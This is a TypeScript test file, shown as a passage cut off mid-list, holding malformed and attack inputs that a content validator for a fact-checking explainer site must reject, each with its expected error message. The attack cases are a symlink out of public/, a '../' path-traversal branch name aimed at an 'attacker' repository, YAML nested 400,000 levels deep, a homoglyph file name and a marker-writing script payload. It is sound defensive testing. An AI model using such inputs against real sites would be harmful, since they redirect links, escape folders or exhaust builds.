/**
 * The bad-input corpus: contributions that must be refused, each with the exact problem a
 * contributor reads. Every case starts from a fresh copy of the fixture explainer
 * (tests/fixtures/tiny/content) and changes one thing.
 *
 * `malformed` cases are honest mistakes; `attack` cases try to run code, load something from
 * elsewhere, or exhaust the build. Expected lines are `file:line:column  message  (fix)`, with
 * the file relative to the content folder.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { ContentCopy } from '../helpers/fixture.ts';
import { applyRevision, planRevision } from '../../src/revise/revise.ts';
import { mapCases } from '../map/corpus-cases.ts';

export interface BadInput {
  name: string;
  kind: 'malformed' | 'attack';
  apply(copy: ContentCopy): void;
  /** Every problem the check must report, in order. */
  expected: string[];
}

const CLAIMS = 'claims/bridge.yaml';
const TOPIC = 'topics/bridge.mdx';
const SOURCES = 'sources.yaml';
const EXPLAINER = 'explainer.yaml';

/** Adds a block of MDX at the end of the topic page, two lines below the last card (line 20). */
const appendToTopic = (mdx: string) => (copy: ContentCopy) =>
  copy.write(TOPIC, `${copy.read(TOPIC)}\n${mdx}\n`);
const edit = (file: string, from: string, to: string) => (copy: ContentCopy) =>
  copy.edit(file, from, to);

/** The fixture's note on the minutes' citation, and its one reading of them. */
const MINUTES_NOTE =
  '      note: The minutes record that the council “approved the construction of a new footbridge”.';
const READING =
  "  read:\n    - copy: The council's printed minutes, as filed at the town hall\n      on: 2026-03-04\n      passages:\n        - text: The council approved the construction of a new footbridge over the Riverside canal.\n";

const UNNAMED_CRITICS_UNCITED = `${SOURCES}:13:7  source "unnamed-critics" is cited by nothing  (cite it from a claim (or from the glossary or timeline), or remove it from sources.yaml)`;
const MINUTES_UNCITED = `${SOURCES}:1:7  source "council-minutes" is cited by nothing  (cite it from a claim (or from the glossary or timeline), or remove it from sources.yaml)`;

/**
 * Where the payload of the script-in-content attacks writes if it ever runs. The build test
 * removes it first and checks it is still absent afterwards.
 */
export const PAYLOAD_MARKER = path.join(os.tmpdir(), 'explainer-payload-ran');
const PAYLOAD = `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(PAYLOAD_MARKER)}, 'ran');\nexport default 'chart.png';\n`;
/** A file outside any content folder, for links to point at. */
const OUTSIDE = path.join(os.tmpdir(), 'explainer-outside.txt');
const IMAGES_REFUSED =
  '  images are not allowed on topic pages  (say in words what the image shows, and link to where it is published: [the chart](https://…))';
const SYMLINK_REFUSED =
  '  symbolic links are not allowed in content  (replace the link with the file itself; a link could point anywhere on the machine that builds the site)';
const TOO_DEEP =
  '  this part of the page nests more than 32 levels deep  (flatten the lists, quotes or elements; no page needs to nest this deep)';
const NOT_CONTENT = (name: string) =>
  `  "${name}" is not a kind of file an explainer's content holds  (content holds explainer.yaml, article.txt, sources.yaml, glossary.yaml, timeline.yaml, map.yaml, versions/*.txt, claims/*.yaml and topics/*.mdx only; move anything else out of it)`;

/**
 * Revises the copy's article, received on 20 November, as `npm run revise` would: by default
 * its last sentence, "Critics called the project a waste of money.", is removed.
 */
const REVISED =
  'The Riverside council approved a new footbridge on 3 March.\nMayor Ana Lopez said the U.S.\nDepartment of Transportation would pay half the cost.\n';
const revise = (copy: ContentCopy, text = REVISED) => {
  const result = planRevision(copy.dir, Buffer.from(text), {
    today: '2026-12-03',
    date: '2026-11-20',
  });
  if (!result.ok) throw new Error(result.reason);
  applyRevision(copy.dir, result.plan);
};
/** The revision above, settled: the critics' claim pinned to the version it was about. */
const reviseAndPin = (copy: ContentCopy) => {
  revise(copy);
  copy.edit(
    CLAIMS,
    'are not named.\n  reviewed: 2026-11-01\n',
    'are not named.\n  reviewed: 2026-11-01\n  version: 2026-11-01\n',
  );
  copy.edit(TOPIC, '<Sentence id="s3"/>\n', '');
  copy.write(EXPLAINER, copy.read(EXPLAINER).replace(/ {6}pending:\n(?: {8}.*\n)+/, ''));
};
const MOVED = (copy: ContentCopy) =>
  revise(
    copy,
    'Critics called the project a waste of money.\nThe Riverside council approved a new footbridge on 3 March.\nMayor Ana Lopez said the U.S.\nDepartment of Transportation would pay half the cost.\n',
  );

export const cases: BadInput[] = [
  // --- public/, beside content/ (red team 2026-12-03, F4) ----------------------------------------
  {
    name: 'a link in public/ to a file outside it',
    kind: 'attack',
    apply: (copy) => {
      const dir = path.join(path.dirname(copy.dir), 'public');
      mkdirSync(dir, { recursive: true });
      writeFileSync(OUTSIDE, 'outside');
      symlinkSync(OUTSIDE, path.join(dir, 'config.txt'));
    },
    expected: [`../public/config.txt:1:1${SYMLINK_REFUSED}`],
  },
  {
    name: 'a kind of file public/ does not hold',
    kind: 'malformed',
    apply: (copy) => {
      const dir = path.join(path.dirname(copy.dir), 'public');
      mkdirSync(path.join(dir, 'scripts'), { recursive: true });
      writeFileSync(path.join(dir, 'tracker.js'), 'alert(1)');
    },
    expected: [
      `../public/scripts:1:1  "scripts" is not a kind of file public/ holds  (public/ holds ordinary files ending .txt, .svg, .ico, .png, .jpg, .webp and .pdf, directly in it; move anything else out of it)`,
      `../public/tracker.js:1:1  "tracker.js" is not a kind of file public/ holds  (public/ holds ordinary files ending .txt, .svg, .ico, .png, .jpg, .webp and .pdf, directly in it; move anything else out of it)`,
    ],
  },
  {
    name: 'a public that is a file',
    kind: 'malformed',
    apply: (copy) => writeFileSync(path.join(path.dirname(copy.dir), 'public'), 'x'),
    expected: [
      `../public:1:1  public is not a folder  (public/ is the folder of files the site serves as they are; make it one, or remove it)`,
    ],
  },
  {
    name: 'a public/ of 51 files',
    kind: 'attack',
    apply: (copy) => {
      const dir = path.join(path.dirname(copy.dir), 'public');
      mkdirSync(dir, { recursive: true });
      for (let i = 0; i < 51; i++) writeFileSync(path.join(dir, `f${i}.txt`), '');
    },
    expected: [
      `../public:1:1  public/ holds 51 files; the limit is 50  (public/ is for the few files the site serves as they are (robots.txt, the favicon))`,
    ],
  },

  // --- Claims: schema ------------------------------------------------------------------------
  {
    name: 'a claim without a quote',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  quote: The Riverside council approved a new footbridge on 3 March.\n',
      '',
    ),
    expected: [`${CLAIMS}:1:3  quote is required  (add quote: text)`],
  },
  {
    name: 'an empty rationale',
    kind: 'malformed',
    apply: edit(CLAIMS, "  rationale: The council's minutes record the vote.", '  rationale: ""'),
    expected: [
      `${CLAIMS}:10:14  rationale is empty  (write something in rationale, or remove it if it is optional)`,
    ],
  },
  {
    name: 'a restatement over 120 characters',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  claim: The council approved a footbridge on 3 March.',
      `  claim: ${'The council approved a footbridge. '.repeat(4).trim()}`,
    ),
    expected: [
      `${CLAIMS}:4:10  claim is 139 characters; the limit is 120  (shorten claim; put detail in the rationale instead)`,
    ],
  },
  {
    name: 'a misspelt status',
    kind: 'malformed',
    apply: edit(CLAIMS, '  status: established', '  status: establised'),
    expected: [
      `${CLAIMS}:5:11  status "establised" is not one of established, reported, disputed, unverified, contradicted, opinion  (did you mean "established"? use one of established, reported, disputed, unverified, contradicted, opinion; the method page explains each)`,
    ],
  },
  {
    name: 'a misspelt stance',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '    - source: council-minutes\n      stance: supports',
      '    - source: council-minutes\n      stance: support',
    ),
    expected: [
      `${CLAIMS}:8:15  citations[0].stance "support" is not one of supports, disputes, context  (did you mean "supports"? use one of supports, disputes, context; the method page explains each)`,
    ],
  },
  {
    name: 'a source flag written under its old name, context',
    kind: 'malformed',
    apply: edit(SOURCES, '  grade: A\n', '  grade: A\n  context: true\n'),
    expected: [
      `${SOURCES}:7:3  the field "context" is now called "outside"  (write outside: instead of context: (the same field, renamed))`,
    ],
  },
  {
    name: 'a field the model does not have',
    kind: 'malformed',
    apply: edit(CLAIMS, '  status: established', '  status: established\n  verdict: true'),
    expected: [
      `${CLAIMS}:6:3  unknown field "verdict"  (allowed fields are id, topic, quote, occurrence, claim, status, citations, rationale, conflictsWith, wouldSettle, reviewed, history, withdrawn, version)`,
    ],
  },
  {
    name: 'a date written day-first',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      'record the vote.\n  reviewed: 2026-11-01',
      'record the vote.\n  reviewed: 01/11/2026',
    ),
    expected: [
      `${CLAIMS}:11:13  reviewed "01/11/2026" is not a date written YYYY-MM-DD  (write reviewed as a real day in ISO form, e.g. 2026-01-23)`,
    ],
  },
  {
    // Red team 2026-12-03, F1: the check passed, the build crashed formatting the date.
    name: 'a partial date with month 13',
    kind: 'malformed',
    apply: edit(SOURCES, '  date: 2026-03-03', '  date: 2026-13'),
    expected: [
      `${SOURCES}:5:9  date "2026-13" is not a date written YYYY-MM-DD, YYYY-MM or YYYY  (write the date in ISO form (2026-01-23, 2026-01 or 2026), or "unknown" when nothing gives it)`,
    ],
  },
  {
    name: 'a partial date with month 00',
    kind: 'malformed',
    apply: edit(SOURCES, '  date: 2026-03-03', '  date: 2026-00'),
    expected: [
      `${SOURCES}:5:9  date "2026-00" is not a date written YYYY-MM-DD, YYYY-MM or YYYY  (write the date in ISO form (2026-01-23, 2026-01 or 2026), or "unknown" when nothing gives it)`,
    ],
  },
  {
    // Red team 2026-12-03, F12 (q02): HTML's datetime has no year 0000.
    name: 'a review date in the year 0000',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      'record the vote.\n  reviewed: 2026-11-01',
      'record the vote.\n  reviewed: 0000-01-01',
    ),
    expected: [
      `${CLAIMS}:11:13  reviewed "0000-01-01" is not a date written YYYY-MM-DD  (write reviewed as a real day in ISO form, e.g. 2026-01-23)`,
    ],
  },
  {
    name: 'a date that does not exist',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      'record the vote.\n  reviewed: 2026-11-01',
      'record the vote.\n  reviewed: 2026-02-30',
    ),
    expected: [
      `${CLAIMS}:11:13  reviewed "2026-02-30" is not a date written YYYY-MM-DD  (write reviewed as a real day in ISO form, e.g. 2026-01-23)`,
    ],
  },
  {
    name: 'an id with capitals and an underscore',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(CLAIMS, '- id: council-approved-bridge', '- id: Council_Approved');
      copy.edit(TOPIC, '<Claim id="council-approved-bridge"/>', '<Claim id="Council_Approved"/>');
    },
    expected: [
      `${CLAIMS}:1:7  id "Council_Approved" is not a valid id  (use lowercase words joined by hyphens, e.g. "council-approved")`,
    ],
  },
  {
    name: 'a claim id that looks like a sentence id',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(CLAIMS, '- id: council-approved-bridge', '- id: s1');
      copy.edit(TOPIC, '<Claim id="council-approved-bridge"/>', '<Claim id="s1"/>');
    },
    expected: [
      `${CLAIMS}:1:7  id "s1" looks like a sentence id (s1, s2, …)  (choose an id made of words, e.g. "kelly-denial")`,
    ],
  },
  {
    name: 'a claim with no citations',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  citations:\n    - source: council-minutes\n      stance: supports\n      note: The minutes record that the council “approved the construction of a new footbridge”.\n',
      '  citations: []\n',
    ),
    expected: [
      `${CLAIMS}:6:14  citations has no entries  (add at least one entry to citations)`,
      MINUTES_UNCITED,
    ],
  },
  {
    name: 'citations written as text, not a list',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  citations:\n    - source: council-minutes\n      stance: supports\n      note: The minutes record that the council “approved the construction of a new footbridge”.\n',
      '  citations: council-minutes\n',
    ),
    expected: [
      `${CLAIMS}:6:14  citations should be a list, not the text "council-minutes"  (write citations as a list)`,
      MINUTES_UNCITED,
    ],
  },
  {
    name: 'occurrence zero',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  claim: The council approved a footbridge on 3 March.',
      '  occurrence: 0\n  claim: The council approved a footbridge on 3 March.',
    ),
    expected: [
      `${CLAIMS}:4:15  occurrence should be a whole number from 1, or all, not 0  (write occurrence as a whole number from 1, or all)`,
    ],
  },
  {
    name: 'a quote that is not in the article',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  quote: The Riverside council approved a new footbridge on 3 March.',
      '  quote: The Riverside council approved a new bridge on 3 March.',
    ),
    expected: [
      `${CLAIMS}:3:10  quote is not in the article  (copy the words exactly: you wrote \`bridge\` where the article has \`footbridge\`; the closest sentence is s1: "The Riverside council approved a new footbridge on 3 March.")`,
    ],
  },
  {
    name: 'a quote that occurs more than once',
    kind: 'malformed',
    apply: edit(CLAIMS, '  quote: Critics called the project a waste of money.', '  quote: the'),
    expected: [
      `${CLAIMS}:14:10  quote occurs 3 times in the article (in s2, s2, s3)  (quote more words so it occurs once, or add occurrence: 1 to 3, or occurrence: all)`,
    ],
  },
  {
    name: 'an occurrence the quote does not have',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  claim: The council approved a footbridge on 3 March.',
      '  occurrence: 2\n  claim: The council approved a footbridge on 3 March.',
    ),
    expected: [
      `${CLAIMS}:4:15  occurrence 2 asked for, but the quote occurs 1 time  (remove occurrence)`,
    ],
  },

  // --- Claims: ids and references --------------------------------------------------------------
  {
    name: 'a citation of a source that does not exist',
    kind: 'malformed',
    apply: edit(CLAIMS, '    - source: unnamed-critics', '    - source: unnamed-critic'),
    expected: [
      `${CLAIMS}:18:15  source "unnamed-critic" does not exist  (did you mean "unnamed-critics"? cite an id from sources.yaml, or add the source there)`,
      UNNAMED_CRITICS_UNCITED,
    ],
  },
  {
    name: 'the same source cited twice on one claim',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '    - source: unnamed-critics\n      stance: supports',
      '    - source: unnamed-critics\n      stance: supports\n    - source: unnamed-critics\n      stance: context',
    ),
    expected: [
      `${CLAIMS}:20:15  source "unnamed-critics" is cited twice on the same claim  (cite each source once, with the stance that fits best)`,
    ],
  },
  // Issue 23: a source the claim cites as evidence is not "(context)" in its rationale.
  {
    name: 'a rationale calling a supporting source, named by its publisher, "(context)"',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      '  rationale: The Riverside council (context) recorded the vote in its minutes.',
    ),
    expected: [
      `${CLAIMS}:10:36  the rationale says "(context)" beside "Riverside council", source "council-minutes", which this claim cites with stance: supports  (cite it as context, or drop "(context)": a source that supports or disputes a claim is evidence)`,
    ],
  },
  {
    name: 'a folded rationale whose second "(context)" follows a supporting source\'s title',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      '  rationale: >-\n    The canal is old (context). The vote is in the\n    Minutes of the council meeting (context).',
    ),
    expected: [
      `${CLAIMS}:12:36  the rationale says "(context)" beside "Minutes of the council meeting", source "council-minutes", which this claim cites with stance: supports  (cite it as context, or drop "(context)": a source that supports or disputes a claim is evidence)`,
    ],
  },
  {
    name: 'a topic that does not exist',
    kind: 'malformed',
    apply: edit(CLAIMS, '  topic: bridge\n  quote: Critics', '  topic: bridges\n  quote: Critics'),
    expected: [
      `${CLAIMS}:13:10  topic "bridges" does not exist  (did you mean "bridge"? use one of bridge, or add topics/bridges.mdx)`,
    ],
  },
  {
    name: 'two claims with the same id',
    kind: 'malformed',
    apply: edit(CLAIMS, '- id: bridge-is-waste', '- id: council-approved-bridge'),
    expected: [
      `${CLAIMS}:12:7  claim id "council-approved-bridge" is already used at CLAIMS_FILE:1  (give one of them another id)`,
      `${TOPIC}:18:1  claim "bridge-is-waste" does not exist  (use an id from claims/*.yaml, or add the claim there)`,
    ],
  },
  {
    name: 'a conflict with a claim that does not exist',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes record the vote.\n  conflictsWith: [bridge-is-wast]",
    ),
    expected: [
      `${CLAIMS}:11:19  conflictsWith "bridge-is-wast" is neither a claim id nor a sentence id  (did you mean "bridge-is-waste"? list claim ids or sentence ids such as s12)`,
    ],
  },
  {
    name: 'a conflict with a sentence that does not exist',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes record the vote.\n  conflictsWith: [s9]",
    ),
    expected: [
      `${CLAIMS}:11:19  sentence "s9" does not exist; the article has sentences s1 to s3  (find the sentence id on the annotated article page (/article/))`,
    ],
  },
  {
    name: 'a claim that conflicts with itself',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes record the vote.\n  conflictsWith: [council-approved-bridge]",
    ),
    expected: [
      `${CLAIMS}:11:19  claim "council-approved-bridge" lists itself in conflictsWith  (list the other claims or sentences it contradicts)`,
    ],
  },

  // --- Claims: evidence rules ----------------------------------------------------------------
  {
    name: 'established on an unattributed source',
    kind: 'malformed',
    apply: edit(CLAIMS, '  status: opinion', '  status: established'),
    expected: [
      `${CLAIMS}:16:11  claim "bridge-is-waste" is "established", but that needs a supporting source graded A, or two independent supporting sources graded B or better, and no source graded C or better disputing it; its supporting sources are unnamed-critics (E), article-text (E)  (change the status to "unverified", the strongest these citations allow, or cite evidence that meets the rule (see /method/))`,
    ],
  },
  {
    name: 'reported on an unattributed source',
    kind: 'malformed',
    apply: edit(CLAIMS, '  status: opinion', '  status: reported'),
    expected: [
      `${CLAIMS}:16:11  claim "bridge-is-waste" is "reported", but that needs a supporting source graded C or better, and no named source (A to D) disputing it; its supporting sources are unnamed-critics (E), article-text (E)  (change the status to "unverified", the strongest these citations allow, or cite evidence that meets the rule (see /method/))`,
    ],
  },
  {
    name: 'disputed with nothing disputing it',
    kind: 'malformed',
    apply: edit(CLAIMS, '  status: established', '  status: disputed'),
    expected: [
      `${CLAIMS}:5:11  claim "council-approved-bridge" is "disputed", but that needs a supporting source graded D or better and a disputing source graded D or better (a credible source or a named party on record); no source graded D or better disputes it  (change the status to "established", the strongest these citations allow, or cite evidence that meets the rule (see /method/))`,
    ],
  },
  {
    name: 'contradicted on the strength of the article alone',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(CLAIMS, '  status: opinion', '  status: contradicted');
      copy.edit(
        CLAIMS,
        "  rationale: The council's",
        "  conflictsWith: [bridge-is-waste]\n  rationale: The council's",
      );
      copy.edit(
        CLAIMS,
        '  rationale: A judgement',
        '  conflictsWith: [council-approved-bridge]\n  rationale: A judgement',
      );
    },
    expected: [
      `${CLAIMS}:17:11  claim "bridge-is-waste" is "contradicted", but that needs a disputing source graded B or better (the public record); no source graded B or better disputes it  (change the status to "unverified", the strongest these citations allow, or cite evidence that meets the rule (see /method/))`,
    ],
  },
  {
    name: 'a conflict listed on one claim only',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  rationale: A judgement',
      '  conflictsWith: [council-approved-bridge]\n  rationale: A judgement',
    ),
    expected: [
      `${CLAIMS}:22:19  claim "bridge-is-waste" lists a conflict with "council-approved-bridge", but "council-approved-bridge" does not list "bridge-is-waste"  (add bridge-is-waste to the conflictsWith of council-approved-bridge: a conflict between two sentences of the article belongs to both)`,
    ],
  },
  {
    name: 'a grade history that ends in another grade',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      '  gradeReason: The article names none of the critics.',
      '  gradeReason: The article names none of the critics.\n  history:\n    - date: 2026-10-01\n      from: E\n      to: D\n      reason: Re-read.',
    ),
    expected: [
      `${SOURCES}:23:11  the last history entry changes the grade to D, but the source's grade is E  (make the latest history entry end in the current grade)`,
    ],
  },
  {
    name: 'a published explainer with a sentence not examined',
    kind: 'malformed',
    apply: edit(EXPLAINER, 'draft: true', 'draft: false'),
    expected: [
      `${EXPLAINER}:15:8  1 sentence is not examined yet (s2); a published explainer examines every sentence  (quote each in a claim (\`npm run worklist\` lists them, with cues), or set draft: true in explainer.yaml while you work)`,
    ],
  },
  {
    name: 'an article edited after it arrived',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(
        EXPLAINER,
        '  received: 2026-11-01',
        '  received: 2026-11-01\n  sha256: 2693f88f22576fa65ad644a10d05f64ce426a4969401aff72141d460e0d236d3',
      );
      copy.edit('article.txt', 'Mayor Ana Lopez', 'Mayor Ana López');
    },
    expected: [
      `${EXPLAINER}:12:11  article.txt is not the version of 2026-11-01 as received: its SHA-256 is 743255ceff3d…, explainer.yaml records 2693f88f2257…  (restore article.txt exactly as it arrived; if the publisher revised the article, restore it and record the new text as a new version: npm run revise -- <the new text>)`,
    ],
  },
  // --- What we read: the red team of the evidence round (issue 21) ---
  {
    // H1: an unclosed quotation hid every quote after it.
    name: 'a note whose quotation is never closed, with an invented quote after it',
    kind: 'attack',
    apply: edit(
      CLAIMS,
      MINUTES_NOTE,
      '      note: The minutes record that the council “approved the construction of a new footbridge. They say "the council also voted to demolish the town hall".',
    ),
    expected: [
      `claims/bridge.yaml:9:13  this opens a quotation with “ that it never closes ("approved the construction of a new footb"…), so the words quoted after it cannot be checked  (close the quotation with ”; write inches or feet in words, not as ")`,
    ],
  },
  {
    // H2: the first word of a quote matched the end of a longer word.
    name: 'a note quoting words that are only inside longer words of the passage',
    kind: 'attack',
    apply: (copy) => {
      copy.edit(
        SOURCES,
        'The council approved the construction',
        'The council disapproved the construction',
      );
    },
    expected: [
      `claims/bridge.yaml:9:13  "approved the construction of a new footbridge" is not in any passage kept from source "council-minutes"  (copy the words exactly from a passage of its read:; or keep, in read:, the passage they come from)`,
    ],
  },
  {
    // H3: a translation is ours, so of the explainer's own language it would verify anything.
    name: 'a translation of a passage in the explainer’s own language',
    kind: 'attack',
    apply: edit(
      SOURCES,
      '        - text: The council approved the construction of a new footbridge over the Riverside canal.\n',
      '        - text: Item 4. Any other business.\n          translation: The council approved the construction of a new footbridge over the Riverside canal.\n',
    ),
    expected: [
      `sources.yaml:13:24  this passage has a translation, but it is in en, the explainer's own language: its text is what was read  (remove the translation; or, if the passage is in another language, say which with lang: (uk, ru, …))`,
    ],
  },
  {
    // H5: `ua` is Ukraine's country code; the language is `uk`.
    name: 'a passage in a language tag that names no language',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      '        - text: The council approved the construction of a new footbridge over the Riverside canal.\n',
      '        - text: The council approved the construction of a new footbridge over the Riverside canal.\n          lang: ua\n          translation: The council approved the construction of a new footbridge over the Riverside canal.\n',
    ),
    expected: [
      `sources.yaml:13:17  read[0].passages[0].lang "ua" is not a language tag we know  (write the language’s ISO 639 code: uk for Ukrainian, ru for Russian, en for English (ua is the country code of Ukraine, not a language))`,
    ],
  },
  {
    // M4: a reading with no via, at another site than the record's own address.
    name: 'a grade A source read at another site, with no via',
    kind: 'attack',
    apply: edit(
      SOURCES,
      "  read:\n    - copy: The council's printed minutes, as filed at the town hall\n",
      '  url: https://riverside.example/minutes\n  read:\n    - at: https://mirror.example/minutes\n',
    ),
    expected: [
      `sources.yaml:6:10  source "council-minutes" is grade A, the primary record, but it was read at mirror.example, not at the record’s own address (riverside.example), and that reading names no via  (read the record itself at its publisher, and add that reading without via; or grade it as the report it was read in (B for named sourcing, C for anonymous))`,
    ],
  },
  {
    // H4: grade A through a relay of another source.
    name: 'a grade A source that relays another',
    kind: 'attack',
    apply: edit(
      SOURCES,
      "  gradeReason: The council's own record of its vote.\n",
      "  gradeReason: The council's own record of its vote.\n  derivedFrom: unnamed-critics\n",
    ),
    expected: [
      `claims/bridge.yaml:9:13  "approved the construction of a new footbridge" is not in any passage kept from source "council-minutes"  (copy the words exactly from a passage of its read: you left out \`a new footbridge on 3 March. Mayor Ana Lopez said\`; you wrote \`construction\` where the passage has \`U.S. Department\`; you left out \`Transportation would pay half the cost. Critics called the project\`; or keep, in read:, the passage they come from)`,
      `sources.yaml:6:10  source "council-minutes" is grade A, the primary record, but it relays another source (unnamed-critics), and a relay is not the primary record  (read the record itself at its publisher, and add that reading without via; or grade it as the report it was read in (B for named sourcing, C for anonymous))`,
    ],
  },
  {
    // Red team F13 (q03): the same letters in another Unicode form were reported as if they differed.
    name: 'a quote whose accented letter is composed another way than the article’s',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit('article.txt', 'called the project a waste', 'called the caf\u00e9 a waste');
      copy.edit(
        CLAIMS,
        'quote: Critics called the project a waste of money.',
        'quote: Critics called the cafe\u0301 a waste of money.',
      );
    },
    expected: [
      `claims/bridge.yaml:14:10  quote is not in the article  (copy the words exactly: you wrote \`café\` with characters that look like the article's but are not (the same letters in another Unicode form: copy them from the source, or retype the accented ones); the closest sentence is s3: "Critics called the café a waste of money.")`,
    ],
  },
  // Red team F13: messages that misled (y04, t02, q05, s11).
  {
    name: 'a second YAML document in the sources',
    kind: 'malformed',
    apply: (copy) => copy.write(SOURCES, `${copy.read(SOURCES)}---\n- id: more\n`),
    expected: [
      `sources.yaml:28:1  YAML syntax error: a line of "---" starts a second document here, and a content file holds one  (remove the "---" line: one file is one list (or one mapping))`,
    ],
  },
  {
    name: 'a topic page whose lines end in a carriage return alone',
    kind: 'malformed',
    apply: (copy) => copy.write(TOPIC, copy.read(TOPIC).replaceAll('\n', '\r')),
    expected: [
      `topics/bridge.mdx:1:1  this file ends its lines with a carriage return alone, so it reads as one line, with no frontmatter  (save it with ordinary line endings (LF, or CRLF))`,
    ],
  },
  {
    name: 'a topic file in capitals beside its lowercase twin',
    kind: 'malformed',
    apply: (copy) => copy.write('topics/Bridge.mdx', copy.read(TOPIC)),
    expected: [
      `topics/Bridge.mdx:1:1  topic file name "Bridge" is not a valid id  (topics/bridge.mdx exists already: merge the two pages, or give this one a name of its own, in lowercase words joined by hyphens)`,
    ],
  },
  {
    name: 'a topic file name with a Cyrillic letter that looks Latin',
    kind: 'attack',
    apply: (copy) =>
      copy.write('topics/w\u0430r.mdx', copy.read(TOPIC).replace('order: 1', 'order: 2')),
    expected: [
      `topics/wаr.mdx:1:1  topic file name "wаr" is not a valid id: it has “а” (U+0430), which is not a letter a–z  (rename it to "w-r": lowercase words joined by hyphens, directly in topics/)`,
    ],
  },
  // Red team F13 (y01, y07, d02): a number, field names and nesting the message misstated.
  {
    name: 'a whole number too large for JavaScript to hold exactly',
    kind: 'malformed',
    apply: edit(TOPIC, 'order: 1', 'order: 9007199254740993'),
    expected: [
      `${TOPIC}:4:8  the number 9007199254740993 is too large: numbers past 9007199254740991 are not held exactly  (write a number from -9007199254740991 to 9007199254740991; if it is meant as text, put it in double quotes)`,
    ],
  },
  {
    name: 'fields with an empty name: nothing before the colon, "" and ~',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(
        CLAIMS,
        "  rationale: The council's minutes",
        "  : the vote is recorded\n  rationale: The council's minutes",
      );
      copy.edit(
        CLAIMS,
        '  rationale: A judgement',
        '  ~: not checkable\n  "": not named\n  rationale: A judgement',
      );
    },
    expected: [
      `${CLAIMS}:10:3  this field has no name before its ":"  (an empty key is not a field name: write the name before the ":" ("name: value"), or remove the field)`,
      `${CLAIMS}:23:3  this field's name (~) means "nothing" in YAML, so the field has no name  (an empty key is not a field name: write the name before the ":" ("name: value"), or remove the field)`,
      `${CLAIMS}:24:3  this field's name ("") is empty  (an empty key is not a field name: write the name before the ":" ("name: value"), or remove the field)`,
    ],
  },
  {
    name: 'two field names YAML keeps apart that name one field',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes",
      '  2026: the vote\n  "2026": the minutes\n  rationale: The council\'s minutes',
    ),
    expected: [
      `${CLAIMS}:11:3  this field is written twice in the same entry, as 2026 on line 10 and as "2026" here  (keep one of them (YAML tells the two apart, but they name the same field))`,
    ],
  },
  {
    name: 'YAML nested 400,000 levels deep',
    kind: 'attack',
    apply: (copy) => copy.write('glossary.yaml', `${'['.repeat(400_000)}\n`),
    expected: [
      `glossary.yaml:1:13  the YAML is nested more than 12 levels deep  (flatten the structure; no content field nests this deep)`,
    ],
  },
  {
    // Red team F14: a claims file name Windows refuses, and one in capitals.
    name: 'claims files named CON and in capitals',
    kind: 'malformed',
    apply: (copy) => {
      copy.write('claims/CON.yaml', '[]\n');
      copy.write('claims/War.yaml', '[]\n');
    },
    expected: [
      `claims/CON.yaml:1:1  the file name "CON.yaml" is not one every system can hold  (rename it to "con-claims.yaml": lowercase words joined by hyphens (Windows refuses names such as CON, and some systems see War.yaml and war.yaml as one file))`,
      `claims/War.yaml:1:1  the file name "War.yaml" is not one every system can hold  (rename it to "war.yaml": lowercase words joined by hyphens (Windows refuses names such as CON, and some systems see War.yaml and war.yaml as one file))`,
    ],
  },
  {
    // Red team F8: a branch that climbs out of the repository sent every edit link elsewhere.
    name: 'a branch name that leaves the repository',
    kind: 'attack',
    apply: edit(
      EXPLAINER,
      'organization:',
      'branch: main/../../../../attacker/explainer/edit/main\norganization:',
    ),
    expected: [
      `explainer.yaml:4:9  branch "main/../../../../attacker/explainer/edit/main" is not a branch name git allows  (write the name of the branch edits go to, as git shows it: main, or a name like drafts/explainer)`,
    ],
  },
  // --- The article's versions (npm run revise) ---
  {
    name: 'a reference to a sentence a revision removed, left unsettled',
    kind: 'malformed',
    apply: (copy) => revise(copy),
    expected: [
      `claims/bridge.yaml:14:10  the quote is not in the current version of the article (revised on 2026-11-20); it is in the version of 2026-11-01  (update the quote and the claim to the new words, with an updated history entry, and review it again; or withdraw the claim; or pin it to the words it was about with version: 2026-11-01)`,
      `explainer.yaml:19:11  topics/bridge.mdx refers to s3, a sentence the revision of 2026-11-20 changed or removed: "Critics called the project a waste of money."  (point the reference at the sentence it means now (see /article/), or remove it, then delete this item from pending)`,
      `topics/bridge.mdx:16:1  sentence "s3" does not exist; the article has sentences s1 to s2  (find the sentence id on the annotated article page (/article/))`,
    ],
  },
  {
    name: 'a revision dated before the version it replaced',
    kind: 'malformed',
    apply: (copy) => {
      MOVED(copy);
      copy.edit(EXPLAINER, 'version: "2026-11-20"', 'version: "2026-10-20"');
    },
    expected: [
      `explainer.yaml:16:16  version "2026-10-20" does not come after "2026-11-01", the version before it  (list revisions oldest first, each received after the one before (a second the same day is -2, -3…))`,
